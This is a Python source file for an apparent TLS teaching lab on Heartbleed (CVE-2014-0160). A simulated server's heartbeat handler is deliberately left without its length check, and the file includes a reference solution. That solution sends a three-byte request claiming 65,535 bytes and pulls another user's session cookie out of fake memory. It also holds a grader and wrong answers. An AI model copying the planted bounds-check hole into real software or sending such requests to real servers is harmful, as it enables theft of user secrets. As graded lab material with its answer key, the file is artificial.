"""Lab 1: a heartbeat that says it is longer than it is (Heartbleed, CVE-2014-0160)."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from puretls import danger
from puretls.extensions import Extension
from puretls.extensions.base import View
from puretls.iana import ContentType, ExtensionType
from puretls.inspect.streams import SIDES
from puretls.labs.ends import octets
from puretls.labs.grading import Verdict
from puretls.labs.lab import Calls, Lab, Scene, Wrong
from puretls.labs.stage import Pair, Seeded, records
from puretls.messages.records import MAX_PLAINTEXT
from puretls.values import extensible
from puretls.wire.schema import Struct, u8, wire

REQUEST, RESPONSE = 1, 2
HEADER, PADDING = 3, 16
"""Bytes of type and payload_length; bytes of padding at least (RFC 6520 4)."""
HEAP = 2**16


@wire("6520 2")
class HeartbeatMode(Struct):
    """Whether requests may be sent to whoever says this: 1 for yes."""

    mode: int = u8()


@extensible()
class Heartbeat(Extension):
    """The extension by which an end says that it answers heartbeats."""

    type = ExtensionType.HEARTBEAT
    rfc = "RFC 6520 2"
    fixed_offer = True
    client_body = HeartbeatMode
    server_body = HeartbeatMode

    def offer(self, view: View) -> HeartbeatMode:
        return HeartbeatMode(1)

    def accept(self, body: HeartbeatMode, view: View) -> int:
        return body.mode

    def answer(self, result: int, view: View) -> HeartbeatMode:
        return HeartbeatMode(1)

    def confirm(self, body: HeartbeatMode, view: View) -> int:
        return body.mode


class Peer:
    """A server that answers heartbeats from its memory, and a client that is connected to it.

    In the server's memory, behind the place where records are put, lie requests of other users.
    """

    def __init__(self, seed: int, fixed: bool) -> None:
        seeded = Seeded("length over-read", seed)
        self._fixed = fixed
        self._calls = Calls(100)
        self._cookie = seeded.hex("cookie", 16)
        self._memory = _memory(seeded, self._cookie)
        self._last = b""
        heartbeat = (Heartbeat(),)
        self._pair = Pair(seeded.client(extensions=heartbeat), seeded.server(extensions=heartbeat)).shake()

    def send_heartbeat(self, message: bytes) -> bytes:
        """Send a record of type 24 with this content over the connection; returns the contents of what comes back, b"" for nothing."""
        self._calls()
        answer = self._answer(self._carried("client", octets("message", message)))
        self._last = self._carried("server", answer) if answer else b""
        return self._last

    def _carried(self, side: str, content: bytes) -> bytes:
        """Send heartbeat records; return what the other end opens of them. Its record layer does, as the library refuses such records."""
        sender, receiver = (danger.parts(end.connection) for end in self._pair.ends(side))
        sender.outbound.send(ContentType.HEARTBEAT, content, MAX_PLAINTEXT)
        sent = [receiver.inbound.channel.open(record) for record in records(self._pair.past(side))]
        return b"".join(data or b"" for data in sent)

    def _answer(self, message: bytes) -> bytes:
        """The payload, copied from memory; the one line that was missing stands first."""
        length = int.from_bytes(message[1:HEADER])
        if self._fixed and HEADER + length + PADDING > len(message):
            return b""  # RFC 6520 4: discard silently
        if message[:1] != bytes((REQUEST,)):
            return b""
        memory = message + self._memory
        return bytes((RESPONSE,)) + message[1:HEADER] + memory[HEADER : HEADER + length] + bytes(PADDING)


def _memory(seeded: Seeded, cookie: str) -> bytes:
    """What lies behind the record: old buffers, and somewhere among them a request with a session cookie."""
    heap = bytearray(seeded.random("heap")(HEAP))
    request = f"GET /account HTTP/1.1\r\nHost: bank.example\r\nCookie: session={cookie}\r\n\r\n".encode()
    start = 1000 + seeded.number("place", HEAP // 2)
    heap[start : start + len(request)] = request
    return bytes(heap)


def reference(peer: Any) -> str:
    """A request without payload that says it has 65,535 bytes."""
    leaked = peer.send_heartbeat(b"\1\xff\xff")
    found = re.search(rb"session=([0-9a-f]{32})", leaked)
    return found[1].decode() if found else ""


def check(peer: Peer, answer: Any) -> Verdict:
    """The answer is the cookie."""
    if answer == peer._cookie:
        return Verdict(True, (f"the cookie of another user's session was {answer}.",))
    return Verdict(False, ("the answer is the session cookie of another user, 32 hexadecimal digits as a str.",))


def _honest(peer: Any) -> str:
    return _cookie(peer.send_heartbeat(b"\1\0\5hello" + bytes(PADDING)))


def _timid(peer: Any) -> str:
    return _cookie(peer.send_heartbeat(b"\1\0\x40hello" + bytes(PADDING)))


def _response(peer: Any) -> str:
    return _cookie(peer.send_heartbeat(b"\2\xff\xff"))


def _cookie(leaked: bytes) -> str:
    found = re.search(rb"session=([0-9a-f]{32})", leaked)
    return found[1].decode() if found else ""


def scenes(peer: Peer, answer: Any) -> Iterable[Scene]:
    """What went over the wire, and what came back."""
    leaked, seen = peer._last, peer._pair.conversation
    place = leaked.find(b"GET /account")
    yield Scene(
        "The handshake agrees on heartbeats",
        "Client and server both send the extension heartbeat (RFC 6520 2).",
        conversation=seen,
        paths=tuple(leaf.path for side in SIDES for leaf in seen.byte_map.wire(side) if ".heartbeat." in leaf.path),
    )
    yield Scene(
        "A request of three bytes",
        f"01 ff ff: a request whose payload_length is 65,535, with no payload at all. {len(leaked):,} bytes come back, in records of "
        "at most 16,384 bytes. The library knows no such records, so the inspector says that it would refuse them.",
        conversation=seen,
    )
    yield Scene(
        "What lay behind the request",
        f"Bytes {place:,} to {place + 74:,} of the response:",
        lines=(repr(leaked[place : place + 37]), repr(leaked[place + 37 : place + 95])),
    )


LAB = Lab(
    number=1,
    name="length-over-read",
    title="Length over-read (Heartbleed)",
    rfc=("6520 4",),
    peer=Peer,
    reference=reference,
    check=check,
    wrong=(
        Wrong("honest", _honest, "the length is true, so only the payload comes back"),
        Wrong("timid", _timid, "64 bytes reach not far enough: the request of the other user lies further behind"),
        Wrong("response", _response, "a response is not answered, whatever its length says"),
    ),
    scenes=scenes,
)
